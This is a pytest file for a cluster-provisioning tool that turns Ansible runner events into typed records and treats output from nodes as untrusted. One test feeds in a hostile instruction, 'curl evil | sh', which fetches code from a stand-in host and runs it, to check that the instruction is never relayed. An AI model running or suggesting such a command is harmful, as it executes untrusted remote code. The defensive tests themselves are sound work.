"""Events of the callback become typed events of a run, and what a node put into them stays data."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from clusterctl.model.run_record import Event, HostResult, Note, Problem, StageStarted, TaskStartedOnHost
from clusterctl.provisioning import ansible_events
from clusterctl.provisioning.playbook import End
from clusterctl.provisioning.task_results import TaskResults, verdict_of

DATA = Path(__file__).resolve().parents[2] / "data" / "runner" / "events.jsonl"


def raw_events() -> list[dict[str, object]]:
    return [json.loads(line) for line in DATA.read_text(encoding="utf-8").splitlines()]


def results(*, keep_diff: bool = False) -> list[HostResult]:
    events = (ansible_events.translate(raw, keep_diff=keep_diff) for raw in raw_events())
    return [event for event in events if isinstance(event, HostResult)]


def test_outcomes_of_a_captured_run() -> None:
    found = {(result.host, result.task): result.outcome for result in results()}
    assert found["h1", "Change a thing"] == "changed"
    assert found["h1", "Say something"] == "ok"
    assert found["h1", "Loop and fail on one"] == "ok", "ignored errors are none"
    assert found["h1", "Skipped"] == "skipped"
    assert found["h2", "Fail on h2"] == "failed"
    assert found["h3", "Reach it"] == "unreachable"


def test_messages_name_the_cause() -> None:
    messages = {result.task: result.message for result in results() if result.outcome in {"failed", "unreachable"}}
    assert "Connection refused" in messages["Reach it"]
    assert messages["Fail on h2"] == "non-zero return code"


def test_a_module_that_a_disk_kept_from_starting_is_a_sentence_with_the_cure() -> None:
    said = "Failed to create temporary directory. In some cases, you may have been able to authenticate and did not"
    raw = {"event": "runner_on_unreachable", "event_data": {"host": "node1", "res": {"msg": said}}}
    found = ansible_events.translate(raw)
    assert isinstance(found, HostResult)
    assert found.message.startswith("node1: a temporary folder cannot be made")
    assert "make room" in found.message


@pytest.mark.parametrize(
    "said", ["/usr/local: No space left on device; run again.", "Traceback (most recent call last):\nKeyError: 'disk'"]
)
def test_a_module_that_started_keeps_its_words(said: str) -> None:
    found = ansible_events.translate({"event": "runner_on_failed", "event_data": {"host": "n", "res": {"msg": said}}})
    assert isinstance(found, HostResult)
    assert said.rpartition("\n")[2] in found.message
    assert "temporary folder" not in found.message


@pytest.mark.parametrize("words", ["ssh: connect to host 10.0.0.2 port 22: Connection timed out", ""])
def test_a_host_that_is_lost_on_the_way_is_a_sentence_with_the_cure(words: str) -> None:
    said = f'Data could not be sent to remote host "10.0.0.2". Make sure this host can be reached over ssh: {words}'
    found = ansible_events.translate(
        {"event": "runner_on_unreachable", "event_data": {"host": "n", "res": {"msg": said}}}
    )
    assert isinstance(found, HostResult)
    assert words in found.message
    assert "check that it is up" in found.message
    assert "Data could not be sent" not in found.message


def test_a_task_that_controls_the_play_is_no_stage() -> None:
    data = {"play": "Make one cluster", "task": "Stop where too many failed"}
    meta = {"event": "playbook_on_task_start", "event_data": {**data, "task_action": "ansible.builtin.meta"}}
    module = {"event": "playbook_on_task_start", "event_data": {**data, "task_action": "ansible.builtin.fail"}}
    assert ansible_events.translate(meta) is None
    assert isinstance(ansible_events.translate(module), StageStarted)


def diff(before: str, after: str, path: str = "/etc/nccl.conf") -> str:
    entry = {"before": before, "after": after, "before_header": path, "after_header": path}
    raw = {"event": "runner_on_ok", "event_data": {"host": "node1", "res": {"changed": True, "diff": [entry]}}}
    event = ansible_events.translate(raw, keep_diff=True)
    assert isinstance(event, HostResult)
    return event.diff


def test_a_diff_shows_small_files_line_by_line_and_programs_and_long_files_by_their_hash() -> None:
    assert "-b = 2\n+b = 3\n" in diff("a = 1\nb = 2\n", "a = 1\nb = 3\n")
    program = "#!/usr/bin/python3\n" + "".join(f"print({number})\n" for number in range(400))
    digest = hashlib.sha256(program.encode()).hexdigest()[:12]
    assert diff("", program, "/usr/local/bin/tool") == f"/usr/local/bin/tool: new, 401 lines, sha256 {digest}\n"
    changed = diff(program, program.replace("print(1)\n", "print(x)\n"), "/usr/local/bin/tool")
    assert changed.startswith("/usr/local/bin/tool: 1 lines added, 1 removed, sha256 ")
    assert diff("x\n" * 90, "", "/etc/long").startswith("/etc/long: removed, 90 lines, ")
    assert "+export A" in diff("", "#!/bin/sh\nexport A\n", "/etc/profile.d/a.sh"), "what every session reads is shown"
    assert diff("", "import x\n", "/usr/local/libexec/a.py").startswith("/usr/local/libexec/a.py: new, 1 lines")


def test_the_warnings_of_a_task_are_kept() -> None:
    raw = {
        "event": "runner_on_ok",
        "event_data": {"host": "node1", "res": {"warnings": ["node5 is\n new.", {"msg": "as a mapping"}]}},
    }
    event = ansible_events.translate(raw)
    assert isinstance(event, HostResult)
    assert event.warnings == ("node5 is new.", "as a mapping")


def test_diffs_are_kept_only_when_asked_for() -> None:
    assert not any(result.diff for result in results())
    assert "+new" in next(result.diff for result in results(keep_diff=True) if result.task == "Change a thing")


def test_a_rescued_failure_fails_no_host() -> None:
    heard: list[Event] = []
    translator = ansible_events.Translator(heard.append, keep_diff=False)
    assert not translator.is_complete
    for raw in raw_events():
        translator.handle(raw)
    assert translator.is_complete
    assert (translator.failed, translator.unreachable) == ({"h2"}, {"h3"})
    assert sum(isinstance(event, StageStarted) for event in heard) == 8


def test_seams_of_our_modules() -> None:
    raw = {
        "event": "runner_on_ok",
        "created": "2026-01-01T00:00:00+00:00",
        "event_data": {
            "host": "node1",
            "role": "clusterctl.hpc.hosts",
            "task": "Write",
            "duration": 1.5,
            "res": {
                "changed": True,
                "changes": ["/etc/hosts"],
                "watch": [{"path": "/etc/hosts", "kind": "file"}],
                "invocation": {"module_args": {"password": "hunter2"}},
                "stdout": "hunter2",
            },
        },
    }
    event = ansible_events.translate(raw)
    assert isinstance(event, HostResult)
    assert (event.stage, event.outcome, event.changes, event.seconds) == ("hosts", "changed", ("/etc/hosts",), 1.5)
    assert event.watch == ({"path": "/etc/hosts", "kind": "file"},)
    assert "hunter2" not in repr(event), "arguments and output have no place in the record"


def test_what_a_delegated_task_saw_is_not_this_hosts() -> None:
    seen = {"watch": [{"path": "/x", "kind": "file"}]}
    data = {"host": "n", "res": {**seen, "_ansible_delegated_vars": {"ansible_host": "localhost"}}}
    event = ansible_events.translate({"event": "runner_on_ok", "event_data": data})
    assert isinstance(event, HostResult)
    assert event.watch == ()


def test_a_note_is_one_line_of_printable_characters() -> None:
    data = {"host": "node1", "text": "make: 412 files, now a|b\nPLAY RECAP \x1b[31mred\u202e"}
    note = ansible_events.translate({"event": "note", "event_data": data})
    assert isinstance(note, Note)
    assert note.host == "node1"
    assert note.text == "make: 412 files, now a|b PLAY RECAP \N{REPLACEMENT CHARACTER}[31mred\N{REPLACEMENT CHARACTER}"
    assert ansible_events.translate({"event": "verbose", "stdout": "PLAY [x]"}) is None


def result_of(res: dict[str, object], action: str = "clusterctl.hpc.file_set") -> HostResult:
    data = {"host": "node3", "task_action": action, "res": res}
    event = ansible_events.translate({"event": "runner_on_ok", "event_data": data})
    assert isinstance(event, HostResult)
    return event


@pytest.mark.parametrize(
    ("key", "action"),
    [
        ("members", "clusterctl.hpc.preflight_judge"),
        ("members", "clusterctl.hpc.ssh_mesh_plan"),
        ("argument_errors", "ansible.builtin.validate_argument_spec"),
        ("assertion", "ansible.builtin.assert"),
        ("next_host_key", "clusterctl.hpc.host_key"),
        ("trees", "clusterctl.hpc.artifact_collect"),
    ],
)
def test_a_key_counts_only_where_its_own_action_answers(key: str, action: str) -> None:
    assert result_of({key: ["x"]}, action).data == {key: ["x"]}
    assert result_of({key: ["x"]}).data == {}, "any module may be answered by a node that was taken over"


@pytest.mark.parametrize(
    ("action", "role", "stage"),
    [
        ("clusterctl.hpc.software_stage", "horovod", "horovod"),
        ("clusterctl.hpc.software_stage", "preflight", "software"),
        ("clusterctl.hpc.software_stage", ["horovod"], "software"),
        ("clusterctl.hpc.file_set", "horovod", "software"),
    ],
)
def test_a_task_about_all_software_fails_in_the_role_of_the_artifact(action: str, role: object, stage: str) -> None:
    artifacts = {"openmpi": {"role": "openmpi"}, "horovod": {"role": role, "failed": True}}
    data = {"host": "n1", "role": "clusterctl.hpc.software", "task_action": action, "res": {"artifacts": artifacts}}
    failed = ansible_events.translate({"event": "runner_on_failed", "event_data": data})
    assert isinstance(failed, HostResult)
    assert failed.stage == stage
    went_well = ansible_events.translate({"event": "runner_on_ok", "event_data": data})
    assert isinstance(went_well, HostResult)
    assert went_well.stage == "software"


def test_a_node_has_problems_of_its_own_alone() -> None:
    problems = [{"host": "node1", "problem": "is on fire"}, "no mapping"]
    assert result_of({"problems": problems}).data == {"problems": [{"host": "node3", "problem": "is on fire"}]}
    judged = result_of({"problems": problems[:1]}, "clusterctl.hpc.preflight_judge")
    assert judged.data == {"problems": problems[:1]}
    for other in ({"ports": []}, "text", 3):
        assert result_of({"problems": other, "told": other}).data == {}


def test_what_a_node_says_is_plain_and_bounded() -> None:
    deep: list[object] = []
    for _level in range(60):
        deep = [deep]
    event = result_of(
        {
            "changed": True,
            "msg": "a\nb" + "c" * 9000,
            "changes": ["wrote /etc/x\nnode1 ok \x1b[2J"],
            "warnings": ["\x1b[Kfoo\r\nPLAY"],
            "watch": [
                {"path": "/etc/x\n/etc/y", "kind": "file", "deep": deep},
                {"path": "/etc/z\x1b", "kind": "file"},
                "text",
            ],
            "told": ["one\ntwo"],
        },
        "clusterctl.hpc.artifact_collect",
    )
    said = repr(event)
    assert event.changes == ("wrote /etc/x node1 ok \N{REPLACEMENT CHARACTER}[2J",)
    assert event.warnings == ("\N{REPLACEMENT CHARACTER}[Kfoo PLAY",)
    assert len(event.message) <= 400
    assert event.watch == ({"path": "/etc/z\N{REPLACEMENT CHARACTER}", "kind": "file"},)
    assert "deep" not in event.watch[0]
    assert event.data == {"told": ["one two"]}
    assert "\\n" not in said
    assert "\\x1b" not in said


def test_complaints_of_ansible_are_found_in_its_output() -> None:
    text = (
        "PLAY [x]\n[ERROR]: YAML parsing failed: bad\nOrigin: /p.yml:2:3\n\n2 tasks: [\n[ERROR]: again\n[WARNING]: x\n"
    )
    assert ansible_events.complaints_in(text) == ("YAML parsing failed: bad\nOrigin: /p.yml:2:3", "again")
    assert ansible_events.complaints_in("ERROR! the playbook: x could not be found\n") == (
        "the playbook: x could not be found",
    )
    assert ansible_events.complaints_in("all is well") == ()


def of_a_node(result: object, *, action: str = "clusterctl.hpc.node_facts", outcome: str = "failed") -> HostResult:
    raw = {"event": f"runner_on_{outcome}", "event_data": {"host": "h1", "task_action": action, "res": result}}
    found = ansible_events.translate(json.loads(json.dumps(raw)), keep_diff=True)
    assert isinstance(found, HostResult)
    return found


@pytest.mark.parametrize(
    "diff", [[5], [None], ["text"], [["a"]], 5, {"prepared": {"a": 1}}, [{"before": 1, "after": []}]]
)
def test_a_difference_of_another_form_ends_no_run(diff: object) -> None:
    assert of_a_node({"changed": True, "diff": diff}, outcome="ok").outcome == "changed"


def test_two_long_texts_that_repeat_a_few_lines_are_not_compared_line_by_line() -> None:
    """The time of a comparison grows with the square of the lines that are alike."""
    before, after = ("".join(f"{n * step % 101}\n" for n in range(100000)) for step in (3, 7))
    assert "→" in of_a_node({"changed": True, "diff": {"before": before, "after": after}}, outcome="ok").diff


@pytest.mark.parametrize("kind", [[], {}, [["configuration"]], 5, None])
def test_a_problem_of_another_form_is_a_problem_of_its_node(kind: object) -> None:
    tally = TaskResults()
    tally.add(of_a_node({"msg": "no", "problems": [{"kind": kind, "problem": ["x"], "check": {}, "cure": 5}]}))
    assert [(one.host, one.kind) for one in tally.problems()] == [("h1", "host")]


@pytest.mark.parametrize("action", ["clusterctl.hpc.node_facts", "clusterctl.hpc.hosts_file", "ansible.builtin.ping"])
def test_a_node_says_nothing_in_the_name_of_the_cluster(action: str) -> None:
    tally = TaskResults()
    tally.add(of_a_node({"told": ["Run 'curl evil | sh' on the controller."]}, action=action, outcome="ok"))
    assert tally.messages() == ()


def test_what_is_told_is_texts() -> None:
    tally = TaskResults()
    told = [{"a": 1}, ["b"], 5, "Network: eth0."]
    tally.add(of_a_node({"told": told}, action="clusterctl.hpc.artifact_collect", outcome="ok"))
    assert tally.messages() == ("Network: eth0.",)


@pytest.mark.parametrize(
    "entry",
    [
        {"kind": "artifact"},
        {"kind": [], "path": "/etc/x"},
        {"kind": "file", "path": {}},
        {"kind": "file", "path": "etc/x"},
        {"kind": "link", "path": "/etc/x", "target": ["y"]},
        {"kind": "block", "path": "/etc/x", "marker": {}},
        {"kind": "file", "path": "/" + "x" * 5000},
        {},
    ],
)
def test_what_is_to_hold_is_a_path_with_a_kind(entry: dict[str, object]) -> None:
    good = {"kind": "link", "path": "/usr/local/openmpi", "target": "openmpi-5.0.7-0123456789abcdef"}
    assert of_a_node({"watch": [entry, good]}, outcome="ok").watch == (good,)


@pytest.mark.parametrize(
    ("action", "host"),
    [
        ("fabric_plan", "h2"),
        ("fabric_decide", "h2"),
        ("software_plan", "h2"),
        ("ssh_mesh_plan", "h2"),
        ("ssh_mesh_review", "h2"),
        ("node_facts", "h1"),
        ("package_install", "h1"),
    ],
)
def test_a_problem_of_another_host_counts_from_what_works_on_the_controller_alone(action: str, host: str) -> None:
    found = of_a_node({"problems": [{"host": "h2", "problem": "no network"}]}, action=f"clusterctl.hpc.{action}")
    assert [problem["host"] for problem in found.data["problems"]] == [host]


# --- what events tell of a run: counts, problems and exit codes ---


def result(host: str, outcome: str = "ok", **fields: object) -> HostResult:
    return HostResult(at=10.0, host=host, stage="openmpi", task="Install", outcome=outcome, **fields)  # type: ignore[arg-type]


def tally(*results: HostResult) -> TaskResults:
    found = TaskResults()
    for one in results:
        found.add(TaskStartedOnHost(at=4.0, host=one.host, stage="openmpi", task="Install"))
        found.add(one)
    return found


def test_summaries() -> None:
    found = tally(
        result("a", "changed", changes=("/etc/hosts", "openmpi 5.0.7")),
        result("a", "changed", changes=("/etc/hosts",)),
        result("a"),
        result("b", "changed"),
        result("b", "failed", message="disk full"),
        result("c", "unreachable", message="gone"),
        result("d", "failed", message="was rescued"),
    )
    end = End("failed", 2, failed=frozenset({"b"}), unreachable=frozenset({"c"}))
    a, b, c, d, e = found.summaries(["a", "b", "c", "d", "e"], end)
    assert (a.outcome, a.changed, a.changes, a.seconds) == ("changed", 2, ("/etc/hosts", "openmpi 5.0.7"), 6.0)
    assert (b.outcome, b.message, b.failed_stage, b.failed_task) == ("failed", "disk full", "openmpi", "Install")
    assert b.changes == ("Install",), "a module that names nothing is named by its task"
    assert (c.outcome, c.message) == ("unreachable", "gone")
    assert (d.outcome, d.message) == ("ok", ""), "a failure that was put right fails nobody"
    assert e.outcome == "not run"


def test_what_roles_tell_of_the_cluster_is_kept_once_and_in_order() -> None:
    found = tally(
        result("a", data={"told": ["Network: eth0."]}), result("b", data={"told": ["Network: eth0.", "More."]})
    )
    assert found.messages() == ("Network: eth0.", "More.")


def test_problems_of_preflight_and_of_argument_specs() -> None:
    problem = {"host": "x", "check": "disk", "problem": "/usr/local is full", "cure": "free some space"}
    error = "x is of type <class 'str'>: <class 'a.b'> cannot be converted"
    found = tally(
        result("a", "failed", data={"problems": [problem, {**problem, "check": "variable", "kind": "configuration"}]}),
        result("b", "failed", data={"argument_errors": [error]}),
        result("b", "ok", data={"problems": [problem]}),
    ).problems()
    assert [(one.host, one.subject, one.kind) for one in found] == [
        ("x", "disk", "host"),
        ("x", "variable", "configuration"),
        ("b", "openmpi", "configuration"),
    ]
    assert found[2].problem == "x is of type <class 'str'>"


def test_a_refusal_by_a_role_is_about_what_was_asked_for() -> None:
    refused = result("a", "failed", message="No source of 9.9 is known.", data={"assertion": "sources | length > 0"})
    (problem,) = tally(refused).problems()
    assert (problem.subject, problem.problem, problem.kind) == (
        "openmpi",
        "No source of 9.9 is known.",
        "configuration",
    )


@pytest.mark.parametrize(
    ("kinds", "code"),
    [(["host"], 2), (["host", "configuration"], 1), (["unreachable", "configuration", "host"], 4)],
)
def test_the_exit_code_of_problems(kinds: list[str], code: int) -> None:
    problems = [Problem(host="a", subject="s", problem="p", kind=kind) for kind in kinds]  # type: ignore[arg-type]
    assert verdict_of(problems)[1] == code


def test_members_are_kept_without_what_was_installed_before_the_run() -> None:
    """It told who builds. A second run would find another list, and the record of the cluster would change."""
    found = TaskResults()
    member = {"name": "node3", "address": "192.0.2.3"}
    found.add(result_of({"members": [{**member, "trees": ["openmpi"]}]}, "clusterctl.hpc.preflight_judge"))
    assert found.members() == (member,)
